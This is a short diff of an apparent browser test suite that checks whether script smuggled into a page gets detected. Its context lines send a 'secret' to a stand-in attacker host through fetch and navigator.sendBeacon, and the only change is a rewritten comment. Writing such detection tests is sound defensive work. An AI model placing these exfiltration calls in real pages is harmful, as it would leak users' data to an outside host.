@@ -245,7 +245,7 @@ describe("what was smuggled into a page", () => {
         void fetch("https://attacker.example/?secret").catch(() => {});
         navigator.sendBeacon("https://attacker.example/", "secret");
       }, MARK);
-      // Two scripts, two handlers, two addresses, an object and the address for the rest; and what came later.
+      // Two scripts, two handlers, two addresses, an object, the base address, and the later requests.
       await expect
         .poll(async () => (await violations(page)).length, { message: path })
         .toBeGreaterThan(9);
